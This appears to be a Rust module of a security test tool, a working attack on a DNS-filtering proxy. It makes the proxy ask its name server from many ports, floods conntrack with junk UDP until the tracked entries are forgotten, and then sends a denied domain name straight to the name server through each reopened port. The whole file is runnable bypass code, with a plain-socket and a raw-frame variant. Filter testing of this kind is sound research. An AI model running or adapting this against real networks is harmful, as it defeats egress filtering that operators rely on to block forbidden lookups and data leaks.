//! Taking over a proxy's conversation with its name server: questions whose answers come too late
//! make it ask from many ports; a flood of questions of our own makes conntrack forget them; the
//! late answers then look like conversations begun outside, to which the way back is open. Whoever
//! gets one talks to the name server directly.

use std::collections::{BTreeMap, BTreeSet};
use std::io::ErrorKind;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use anyhow::{Context as _, bail};
use nix::sys::epoll::{Epoll, EpollCreateFlags, EpollEvent, EpollFlags, EpollTimeout};
use nix::sys::resource::{Resource, getrlimit, setrlimit};

use crate::link::{Frames, Link};
use crate::packets::{UDP, V4, dns_question, udp};

/// Names to ask for.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Names<'a> {
    /// Allowed, and answered late: any label before it makes another name.
    pub(crate) late: &'a str,
    /// Denied: the name server must never hear of it.
    pub(crate) secret: &'a str,
}

/// Slow questions at once: each keeps some of the proxy's ports open until it gives up.
const SLOW: u16 = 60;
/// The first of them leave before these; where late answers would be looked for.
const OURS: u16 = 40_000;
/// What conntrack is filled with goes to addresses of nobody.
const NOBODY: [u8; 3] = [203, 0, 113];
/// The proxy chooses its ports here.
const PORTS: std::ops::Range<u16> = 1024..32_768;
/// Sockets at most, whatever the limit of descriptors.
const SOCKETS: usize = 19_900;
/// How long stray answers may take after the flood.
const LINGER: Duration = Duration::from_secs(3);

/// Asks plainly first: without a filter that is enough.
pub(crate) fn run(
    how: &str,
    server: Ipv4Addr,
    names: &Names<'_>,
    flood: Duration,
) -> anyhow::Result<()> {
    let slow = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, OURS))?;
    slow.send_to(
        &dns_question(1, &format!("plain.{}", names.secret)),
        (server, 53),
    )?;
    for number in 0..SLOW {
        slow.send_to(
            &dns_question(number, &format!("n{number}.{}", names.late)),
            (server, 53),
        )?;
    }
    let doors = match how {
        "raw" => raw(names, flood)?,
        "plain" => plain(names, flood)?,
        _ => bail!("raw or plain, please"),
    };
    println!("open doors: {doors}");
    Ok(())
}

/// With sockets alone, bound to every port that the proxy may choose.
fn plain(names: &Names<'_>, length: Duration) -> anyhow::Result<usize> {
    let (_, most) = getrlimit(Resource::RLIMIT_NOFILE)?;
    setrlimit(Resource::RLIMIT_NOFILE, most, most)?;
    let wait = Epoll::new(EpollCreateFlags::EPOLL_CLOEXEC)?;
    let mut sockets = Vec::new();
    for port in PORTS.take(SOCKETS.min(usize::try_from(most)?.saturating_sub(64))) {
        let Ok(socket) = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, port)) else {
            continue;
        };
        socket.set_nonblocking(true)?;
        wait.add(
            &socket,
            EpollEvent::new(EpollFlags::EPOLLIN, u64::try_from(sockets.len())?),
        )?;
        sockets.push(socket);
    }
    println!("sockets: {}", sockets.len());
    let mut stray = Stray {
        wait,
        sockets,
        found: BTreeMap::new(),
    };
    let end = Instant::now() + length;
    let mut sent = 0_u64;
    for round in 0_u8.. {
        if Instant::now() > end {
            break;
        }
        let to = Ipv4Addr::new(NOBODY[0], NOBODY[1], NOBODY[2], round % 200 + 1);
        for chunk in stray.sockets.chunks(1000) {
            for socket in chunk {
                sent += u64::from(socket.send_to(b"x", (to, 53)).is_ok());
            }
            if Instant::now() > end {
                break;
            }
        }
        stray.collect(Duration::ZERO, names)?;
    }
    println!("sent: {sent}");
    let end = Instant::now() + LINGER;
    while Instant::now() < end {
        stray.collect(Duration::from_millis(200), names)?;
    }
    stray.doors(names)
}

/// Answers that nobody of ours asked for.
struct Stray {
    wait: Epoll,
    sockets: Vec<UdpSocket>,
    /// By the socket they came to: who sent them.
    found: BTreeMap<usize, SocketAddr>,
}

impl Stray {
    /// Takes what has come, and sends a denied question back at once.
    fn collect(&mut self, patience: Duration, names: &Names<'_>) -> anyhow::Result<()> {
        let mut events = [EpollEvent::empty(); 1024];
        let count = self
            .wait
            .wait(&mut events, EpollTimeout::try_from(patience)?)?;
        for event in events.iter().take(count) {
            let at = usize::try_from(event.data())?;
            let Some(socket) = self.sockets.get(at) else {
                continue;
            };
            while let Ok((_, from)) = socket.recv_from(&mut [0; 2048]) {
                let is_flood = matches!(from.ip(), IpAddr::V4(address) if address.octets().starts_with(&NOBODY));
                if from.port() == 53 && !is_flood && self.found.insert(at, from).is_none() {
                    socket
                        .send_to(
                            &dns_question(0x7000, &format!("t{at}.{}", names.secret)),
                            from,
                        )
                        .ok();
                }
            }
        }
        Ok(())
    }

    /// Asks the denied name through each; one that answers it is open.
    fn doors(&self, names: &Names<'_>) -> anyhow::Result<usize> {
        println!("stray answers: {}", self.found.len());
        let mut open = 0;
        for (at, from) in &self.found {
            let socket = self.sockets.get(*at).context("a socket")?;
            socket.set_nonblocking(false)?;
            socket.set_read_timeout(Some(Duration::from_millis(500)))?;
            socket.send_to(
                &dns_question(0x7100, &format!("u{at}.{}", names.secret)),
                from,
            )?;
            open += usize::from(socket.recv(&mut [0; 2048]).is_ok_and(|length| length > 12));
        }
        Ok(open)
    }
}

/// With frames: any port, any number of conversations.
fn raw(names: &Names<'_>, length: Duration) -> anyhow::Result<usize> {
    let link = Link::look("eth0")?;
    let (frames, ears) = (link.open()?, link.open()?);
    nix::fcntl::fcntl(
        &ears.socket,
        nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK),
    )?;
    let mut doors = BTreeSet::new();
    let (end, mut sent) = (Instant::now() + length, 0_u32);
    while Instant::now() < end {
        for _ in 0..500 {
            let from = (
                link.v4,
                PORTS.start + u16::try_from(sent % 64_000).expect("a port"),
            );
            let last = u8::try_from(sent / 64_000 % 200 + 1).expect("one byte");
            let to = (Ipv4Addr::new(NOBODY[0], NOBODY[1], NOBODY[2], last), 53);
            frames.send(&V4::new(from.0, to.0, UDP).around(&udp(from.into(), to.into(), b"x")))?;
            sent += 1;
        }
        listen(&link, &ears, &frames, names, &mut doors)?;
    }
    println!("sent: {sent}");
    let end = Instant::now() + LINGER;
    while Instant::now() < end {
        listen(&link, &ears, &frames, names, &mut doors)?;
        std::thread::sleep(Duration::from_millis(20));
    }
    println!("stray answers: {}", doors.len());
    Ok(doors.len())
}

/// Answers a stray datagram from a name server with a denied question.
fn listen(
    link: &Link,
    ears: &Frames,
    frames: &Frames,
    names: &Names<'_>,
    doors: &mut BTreeSet<u16>,
) -> anyhow::Result<()> {
    let mut buffer = [0; 2048];
    loop {
        let length = match nix::unistd::read(&ears.socket, &mut buffer) {
            Ok(length) => length,
            Err(error) if std::io::Error::from(error).kind() == ErrorKind::WouldBlock => {
                return Ok(());
            }
            Err(error) => return Err(error.into()),
        };
        // Ethernet, IPv4 without options, UDP, from port 53, to us, and not to the socket of our
        // slow questions.
        let Some(packet) = buffer.get(14..length).filter(|packet| packet.len() >= 28) else {
            continue;
        };
        let word = |at: usize| u16::from_be_bytes([packet[at], packet[at + 1]]);
        let (from, port) = (
            Ipv4Addr::new(packet[12], packet[13], packet[14], packet[15]),
            word(22),
        );
        let to_us = packet[16..20] == link.v4.octets();
        if packet[0] == 0x45
            && packet[9] == UDP
            && word(20) == 53
            && to_us
            && port != OURS
            && !from.octets().starts_with(&NOBODY)
            && doors.insert(port)
        {
            let ends = ((link.v4, port).into(), (from, 53).into());
            let question = dns_question(0x7000, &format!("t{port}.{}", names.secret));
            frames.send(&V4::new(link.v4, from, UDP).around(&udp(ends.0, ends.1, &question)))?;
        }
    }
}
